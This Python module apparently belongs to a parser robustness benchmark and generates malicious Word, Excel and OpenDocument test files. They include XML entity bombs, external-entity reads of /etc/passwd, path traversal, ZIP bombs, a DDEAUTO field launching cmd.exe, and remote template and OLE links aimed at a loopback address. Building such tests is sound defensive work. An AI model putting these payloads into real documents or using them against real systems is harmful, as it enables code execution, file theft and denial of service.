"""Office files: bombs of ZIP and XML, parts from elsewhere, macros, circles, nesting, absurd numbers."""

from collections.abc import Iterator
from typing import Any

from benchmarks.attacks.values import Attack, End, packed

__all__ = ["entity_bomb", "office_attacks"]

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OASIS = "urn:oasis:names:tc:opendocument:xmlns"
_BOND = "The vendor shall furnish a performance bond."
_LISTED = (
    '<w:p><w:pPr><w:numPr><w:ilvl w:val="{}"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>bond</w:t></w:r></w:p>'
)
_P = f"<w:p><w:r><w:t>{_BOND}</w:t></w:r></w:p>"
_NOWHERE = "http://127.0.0.1:9/"
_EXTERNAL_ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
_EXTERNAL_DTD = f'<!DOCTYPE a SYSTEM "{_NOWHERE}a.dtd">'
_PARAMETERS = f'<!DOCTYPE a [<!ENTITY % y SYSTEM "{_NOWHERE}y.dtd"> %y; <!ENTITY x "bond">]>'
_SQUARE = f'<!DOCTYPE a [<!ENTITY x "{"bond " * 20_000}">]>'


def entity_bomb(depth: int = 11) -> str:
    """A document type whose entity ``x`` would be ten to the power of ``depth`` words."""
    steps = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, depth))
    return f'<!DOCTYPE a [<!ENTITY x0 "bond ">{steps}<!ENTITY x "{f"&x{depth - 1};" * 10}">]>'


def _docx(body: str = _P, *, links: str = "", prolog: str = "", **parts: str | bytes) -> bytes:
    """A Word file; ``parts`` are further parts under ``word/``, with two underscores for a dot."""
    word = {f"word/{name.replace('__', '.')}": content for name, content in parts.items()}
    kinds = "".join(
        f'<Relationship Id="k{n}" Type="{_R}/{name.partition("word/")[2].partition(".")[0]}" Target="/{name}"/>'
        for n, name in enumerate(word)
        if name.endswith(".xml")
    )
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    members: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="xml" ContentType='
        f'"application/xml"/><Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" '
        f'Target="word/document.xml" Type="{_R}/officeDocument"/></Relationships>',
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{_PACKAGE}/relationships">{kinds}{links}'
        "</Relationships>",
        "word/document.xml": f'{prolog}<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>{body}</w:body></w:document>',
        **word,
    }
    return packed({name: c.encode() if isinstance(c, str) else c for name, c in members.items()})


def _link(kind: str, target: str, *, mode: str = "External", number: int = 1) -> str:
    outside = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="l{number}" Type="{_R}/{kind}" Target="{target}"{outside}/>'


def _root(tag: str, inner: str) -> str:
    return f'<w:{tag} xmlns:w="{_W}" xmlns:r="{_R}">{inner}</w:{tag}>'


def _nested(tag: str, depth: int, inner: str = _P) -> str:
    opened = "".join(f"<{part}>" for part in tag.split())
    closed = "".join(f"</{part}>" for part in reversed(tag.split()))
    return opened * depth + inner + closed * depth


def _word_bombs() -> Iterator[tuple[str, bytes]]:
    yield "spaces", _docx(_P + " " * 100_000_000)
    yield "below-limit", _docx(_P + " " * 20_000_000)
    yield "paragraphs-empty", _docx("<w:p/>" * 1_000_000 + _P)
    yield "styles", _docx(styles__xml=b" " * 100_000_000)
    yield "parts-many", packed({f"word/{n}.xml": b"" for n in range(30_000)})
    headers: dict[str, Any] = {f"header{n}__xml": b" " * 20_000_000 for n in range(8)}
    yield "parts-of-bombs", _docx("", **headers)
    attributes = " ".join(f'a{n}="1"' for n in range(200_000))
    yield "attributes", _docx(f"<w:p {attributes}><w:r><w:t>x</w:t></w:r></w:p>")
    yield "namespaces", _docx("".join(f'<a{n}:p xmlns:a{n}="u:{n}"/>' for n in range(50_000)) + _P)


def _word_entities() -> Iterator[tuple[str, bytes]]:
    entity = "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>"
    for name, prolog in (
        ("bomb", entity_bomb()),
        ("square", _SQUARE),
        ("file", _EXTERNAL_ENTITY),
        ("type-elsewhere", _EXTERNAL_DTD),
        ("parameters", _PARAMETERS),
    ):
        body = entity * (2_000 if name == "square" else 1) if "<!ENTITY x " in prolog else _P
        yield name, _docx(body, prolog=prolog)
        yield f"{name}-in-styles", _docx(styles__xml=prolog + _root("styles", "&x;" if "ENTITY x " in prolog else ""))
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{_NOWHERE}" parse="text"/>'
    yield "inclusion", _docx(_P + include)
    yield "stylesheet", _docx(prolog=f'<?xml-stylesheet type="text/xsl" href="{_NOWHERE}a.xsl"?>')


def _word_circles() -> Iterator[tuple[str, bytes]]:
    note = '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>'
    notes = _root("footnotes", f'<w:footnote w:id="2">{_P}{note}{note}</w:footnote>')
    yield "footnote-self", _docx(_P + note, footnotes__xml=notes)
    pair = "".join(
        f'<w:footnote w:id="{n}">{_P}{note.replace("2", str(m)) * 2}</w:footnote>' for n, m in ((2, 3), (3, 2))
    )
    yield "footnote-pair", _docx(_P + note, footnotes__xml=_root("footnotes", pair))
    tree = "".join(f'<w:footnote w:id="{n}">{_P}{note.replace("2", str(n + 1)) * 2}</w:footnote>' for n in range(2, 40))
    yield "footnote-tree", _docx(_P + note, footnotes__xml=_root("footnotes", tree))
    box = "<w:p><w:r><w:pict><v:shape xmlns:v='urn:schemas-microsoft-com:vml'><v:textbox><w:txbxContent>"
    closed = "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    yield "boxes-deep", _docx(box * 40 + _P + closed * 40)
    comment = '<w:p><w:r><w:commentReference w:id="1"/></w:r></w:p>'
    yield (
        "comment-self",
        _docx(_P + comment, comments__xml=_root("comments", f'<w:comment w:id="1">{_P}{comment}</w:comment>')),
    )
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{m}"/><w:link w:val="s{m}"/></w:style>'
        for n, m in ((1, 2), (2, 1), (3, 3))
    )
    styled = "".join(f'<w:p><w:pPr><w:pStyle w:val="s{n}"/></w:pPr><w:r><w:t>bond</w:t></w:r></w:p>' for n in (1, 2, 3))
    yield "styles", _docx(styled, styles__xml=_root("styles", styles))
    chain = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(20_000)
    )
    yield "styles-chain", _docx(styled, styles__xml=_root("styles", chain))
    numbering = (
        '<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="s1"/></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    )
    style = (
        '<w:style w:type="numbering" w:styleId="s1"><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
    )
    listed = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>bond</w:t></w:r></w:p>'
    )
    yield "numbering", _docx(listed, numbering__xml=_root("numbering", numbering), styles__xml=_root("styles", style))
    header = '<w:sectPr><w:headerReference w:type="default" r:id="l1"/></w:sectPr>'
    yield "header-is-text", _docx(_P + header, links=_link("header", "document.xml", mode=""))
    yield (
        "diagram-is-text",
        _docx(
            f'<w:p><w:r><w:drawing><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
            f'<d:relIds xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/diagram" r:dm="l1"/></a:graphic>'
            f"</w:drawing></w:r></w:p>{_P}",
            links=_link("diagramData", "document.xml", mode=""),
        ),
    )


def _word_nesting() -> Iterator[tuple[str, bytes]]:
    for depth in (100, 250, 5_000):
        yield f"tables-{depth}", _docx(_nested("w:tbl w:tr w:tc", depth))
        yield f"controls-{depth}", _docx(_nested("w:sdt w:sdtContent", depth))
        yield f"insertions-{depth}", _docx(f"<w:p>{_nested('w:ins', depth, '<w:r><w:t>bond</w:t></w:r>')}</w:p>")
    choice = "<mc:AlternateContent xmlns:mc='http://schemas.openxmlformats.org/markup-compatibility/2006'><mc:Fallback>"
    yield "alternatives", _docx(choice * 120 + _P + "</mc:Fallback></mc:AlternateContent>" * 120)
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>TOC</w:instrText></w:r>'
    yield "fields", _docx(f"<w:p>{begin * 50_000}<w:r><w:t>{_BOND}</w:t></w:r></w:p>")
    ends = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    yield "fields-closing", _docx(f"<w:p>{ends * 50_000}<w:r><w:t>{_BOND}</w:t></w:r></w:p>")


def _word_numbers() -> Iterator[tuple[str, bytes]]:
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p><w:r><w:t>bond</w:t></w:r></w:p></w:tc>'
    row = '<w:tr><w:trPr><w:gridBefore w:val="999999999"/></w:trPr>'
    yield "span", _docx(f"<w:tbl>{row}{cell * 50}</w:tr></w:tbl>")
    body = "".join(_LISTED.format(n) for n in ("0", "8", "9", "-1", "99999999999999999999", "x", "٣"))
    for form in ("upperRoman", "upperLetter", "ordinalText", "decimal", "chineseCounting"):
        level = '<w:lvl w:ilvl="0"><w:start w:val="2147483647"/>'
        level += f'<w:numFmt w:val="{form}"/><w:lvlText w:val="%1%9%0%%"/></w:lvl>'
        numbering = f'<w:abstractNum w:abstractNumId="1">{level}</w:abstractNum>'
        numbering += '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
        yield f"list-{form.lower()}", _docx(body, numbering__xml=_root("numbering", numbering))
    yield "page-size", _docx(_P + '<w:sectPr><w:pgSz w:w="99999999999999999999" w:h="-5"/></w:sectPr>')
    symbol = '<w:p><w:r><w:sym w:font="Wingdings" w:char="{}"/><w:t>bond</w:t></w:r></w:p>'
    yield "symbols", _docx("".join(symbol.format(c) for c in ("D800", "FFFFFFFF", "-1", "x", "", "110000")))
    yield "surrogates", _docx("<w:p><w:r><w:t>bond &#xD800;</w:t></w:r></w:p>")
    yield "nuls", _docx(f"{_P}\0{_P}")


def _word_texts() -> Iterator[tuple[str, bytes]]:
    yield "paragraph", _docx(f"<w:p><w:r><w:t>{_BOND * 220_000}</w:t></w:r></w:p>")
    yield "paragraph-letters", _docx(f"<w:p><w:r><w:t>{'a' * 9_000_000}</w:t></w:r></w:p>")
    yield "text-too-long", _docx(f"<w:p><w:r><w:t>{'a' * 11_000_000}</w:t></w:r></w:p>")
    yield "runs", _docx(f"<w:p>{'<w:r><w:t>b</w:t></w:r>' * 300_000}</w:p>")
    yield (
        "right-to-left",
        _docx(
            "<w:p><w:pPr><w:bidi/></w:pPr><w:r><w:rPr><w:rtl/></w:rPr><w:t>הספק \u202ebond\u202c "
            "ימציא</w:t></w:r></w:p>" * 500
        ),
    )
    document = f'<w:document xmlns:w="{_W}"><w:body>{_P}</w:body></w:document>'
    for name, data in (
        ("sixteen", document.encode("utf-16")),
        ("sixteen-unmarked", document.encode("utf-16-be")),
        ("thirty-two", document.encode("utf-32")),
        ("seven", b"<?xml version='1.0' encoding='utf-7'?>" + document.encode("utf-7")),
        ("unknown", b"<?xml version='1.0' encoding='no-such'?>" + document.encode()),
        ("not-eight", document.replace("bond", "b\xffnd").encode("latin-1")),
        ("marks", b"\xef\xbb\xbf" * 3 + document.encode()),
        ("empty", b""),
        ("not-xml", b"\x89PNG" * 500),
        ("other-root", b"<a/>"),
    ):
        yield f"encoded-{name}", _docx(document__xml=data)


def _word_outside() -> Iterator[tuple[str, bytes]]:
    settings = _root("settings", '<w:attachedTemplate r:id="rId1"/>')
    linked = (
        f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" Type="{_R}/attachedTemplate" '
        f'Target="{_NOWHERE}evil.dotm" TargetMode="External"/></Relationships>'
    )
    yield "template", _docx(settings__xml=settings, **{"_rels/settings__xml__rels": linked})
    picture = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="l1"/>'
        "</w:drawing></w:r></w:p>"
    )
    yield "picture", _docx(_P + picture, links=_link("image", f"{_NOWHERE}a.png"))
    yield "picture-share", _docx(_P + picture, links=_link("image", "file://///127.0.0.1/share/a.png"))
    yield (
        "object",
        _docx(
            _P + "<w:p><w:r><w:object><o:OLEObject xmlns:o='urn:schemas-microsoft-com:office:office' Type='Link' "
            "ProgID='htmlfile' r:id='l1' UpdateMode='Always'/></w:object></w:r></w:p>",
            links=_link("oleObject", f"mhtml:{_NOWHERE}a.html!x-usc:{_NOWHERE}a.html"),
        ),
    )
    yield "chunk", _docx(_P + '<w:altChunk r:id="l1"/>', links=_link("aFChunk", f"{_NOWHERE}a.html"))
    yield "sub-document", _docx(_P + '<w:subDoc r:id="l1"/>', links=_link("subDocument", "file:///etc/passwd"))
    field = "<w:p><w:fldSimple w:instr='{} \"{}\"'><w:r><w:t>bond</w:t></w:r></w:fldSimple></w:p>"
    yield (
        "fields",
        _docx(
            "".join(field.format(kind, _NOWHERE) for kind in ("INCLUDETEXT", "INCLUDEPICTURE", "LINK", "HYPERLINK"))
            + "<w:p><w:fldSimple w:instr='DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"'>"
            "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
        ),
    )
    yield "macros", _docx(vbaProject__bin=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 500)
    for kind in ("styles", "numbering", "footnotes", "comments", "settings", "header"):
        yield f"{kind}-elsewhere", _docx(links=_link(kind, f"{_NOWHERE}{kind}.xml"))
        yield f"{kind}-leads-out", _docx(links=_link(kind, "../../../../../../etc/passwd", mode=""))


def _spreadsheet(rows: str, *, shared: str = "", prolog: str = "", more: str = "") -> bytes:
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return packed(
        {
            "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" ContentType='
            f'"application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" '
            f'ContentType="{main}"/></Types>'.encode(),
            "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" '
            f'Target="xl/workbook.xml" Type="{_R}/officeDocument"/></Relationships>'.encode(),
            "xl/workbook.xml": f'<workbook xmlns="{_SHEET}" xmlns:r="{_R}"><sheets><sheet name="a" sheetId="1" '
            f'r:id="r1"/></sheets></workbook>'.encode(),
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" Type='
            f'"{_R}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{_R}/sharedStrings" '
            f'Target="sharedStrings.xml"/></Relationships>'.encode(),
            "xl/sharedStrings.xml": f'{prolog}<sst xmlns="{_SHEET}">{shared}</sst>'.encode(),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_SHEET}">{more}<sheetData>{rows}</sheetData>'
            "</worksheet>".encode(),
        }
    )


def _spreadsheets() -> Iterator[tuple[str, bytes]]:
    cell = '<row r="{0}"><c r="{1}{0}" t="inlineStr"><is><t>bond</t></is></c></row>'
    yield "corner", _spreadsheet(cell.format(1, "A") + cell.format(1048576, "XFD"))
    yield "beyond", _spreadsheet(cell.format(999999999, "ZZZZZZ"))
    yield "dimension", _spreadsheet(cell.format(1, "A"), more='<dimension ref="A1:XFD1048576"/>')
    corners = "".join(cell.format(row, "XFD") for row in range(1, 2_000))
    yield "far-columns", _spreadsheet(corners)
    yield "strings-lost", _spreadsheet('<row r="1"><c r="A1" t="s"><v>99999</v></c><c r="B1" t="s"><v>-1</v></c></row>')
    shared = '<row r="1">' + '<c t="s"><v>0</v></c>' * 5_000 + "</row>"
    yield "strings-bomb", _spreadsheet(shared, shared="<si><t>&x;</t></si>", prolog=entity_bomb())
    yield "strings-square", _spreadsheet(shared, shared=f"<si><t>{_BOND * 2_000}</t></si>")
    yield "strings-file", _spreadsheet(shared, shared="<si><t>&x;</t></si>", prolog=_EXTERNAL_ENTITY)
    yield "zip-bomb", _spreadsheet(" " * 100_000_000)
    yield (
        "numbers",
        _spreadsheet('<row r="1"><c r="A1"><v>1e999</v></c><c r="B1"><v>x</v></c><c r="C1" t="d"><v>9</v></c></row>'),
    )
    yield "formula", _spreadsheet(f'<row r="1"><c r="A1"><f>WEBSERVICE("{_NOWHERE}")</f><v>bond</v></c></row>')
    yield "rows-again", _spreadsheet(cell.format(1, "A") * 20_000)


def _opendocument(inner: str, *, prolog: str = "") -> bytes:
    names = " ".join(f'xmlns:{name}="{_OASIS}:{name}:1.0"' for name in ("office", "text", "table", "drawing"))
    content = (
        f'{prolog}<office:document-content {names} xmlns:draw="{_OASIS}:drawing:1.0" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>{inner}</office:text></office:body>'
        "</office:document-content>"
    )
    return packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content.encode()})


def _opendocuments() -> Iterator[tuple[str, bytes]]:
    paragraph = f"<text:p>{_BOND}</text:p>"
    yield "spaces", _opendocument(f'<text:p>bond<text:s text:c="999999999"/>bond</text:p>{paragraph}' * 3)
    repeated = '<table:table><table:table-row table:number-rows-repeated="999999999"><table:table-cell '
    repeated += (
        f'table:number-columns-repeated="999999999">{paragraph}</table:table-cell></table:table-row></table:table>'
    )
    yield "repeated", _opendocument(repeated)
    start = '<text:list><text:list-item text:start-value="99999999999999">'
    yield "list-start", _opendocument(f"{start}{paragraph}</text:list-item></text:list>")
    for depth in (100, 250, 5_000):
        yield f"spans-{depth}", _opendocument(f"<text:p>{_nested('text:span', depth, 'bond')}</text:p>")
        yield f"lists-{depth}", _opendocument(_nested("text:list text:list-item", depth, paragraph))
        yield f"sections-{depth}", _opendocument(_nested("text:section", depth, paragraph))
    for name, prolog in (
        ("bomb", entity_bomb()),
        ("file", _EXTERNAL_ENTITY),
        ("parameters", _PARAMETERS),
        ("square", _SQUARE),
    ):
        yield f"entity-{name}", _opendocument("<text:p>&x;</text:p>" * 500, prolog=prolog)
    picture = f'<draw:image xlink:href="{_NOWHERE}a.png" xlink:actuate="onLoad"/>'
    outside = f"<text:p>bond <draw:frame>{picture}</draw:frame></text:p>"
    yield "picture", _opendocument(outside)
    section = f'<text:section><text:section-source xlink:href="{_NOWHERE}a.odt"/>{paragraph}</text:section>'
    yield "section-elsewhere", _opendocument(section)
    yield "paragraph", _opendocument(f"<text:p>{_BOND * 200_000}</text:p>")
    yield "zip-bomb", _opendocument(paragraph + " " * 100_000_000)


def _end_of(name: str) -> End:
    """Two hundred thousand findings in one file are too many for a worker of ordinary size."""
    return End.ISOLATED if name == "paragraph" else End.EITHER


def office_attacks() -> Iterator[Attack]:
    """One file for each of these ways to be nasty."""
    for kind, files in (
        ("bomb", _word_bombs()),
        ("entity", _word_entities()),
        ("circle", _word_circles()),
        ("nesting", _word_nesting()),
        ("number", _word_numbers()),
        ("text", _word_texts()),
    ):
        for name, data in files:
            yield Attack(f"{kind}-{name}.docx", f"DOCX: {kind}", data, _end_of(name))
    for name, data in _word_outside():
        yield Attack(f"outside-{name}.docx", "DOCX: from elsewhere", data, End.REPORT)
    for name, data in _spreadsheets():
        yield Attack(f"sheet-{name}.xlsx", "XLSX", data)
    for name, data in _opendocuments():
        yield Attack(f"open-{name}.odt", "ODT", data, _end_of(name))
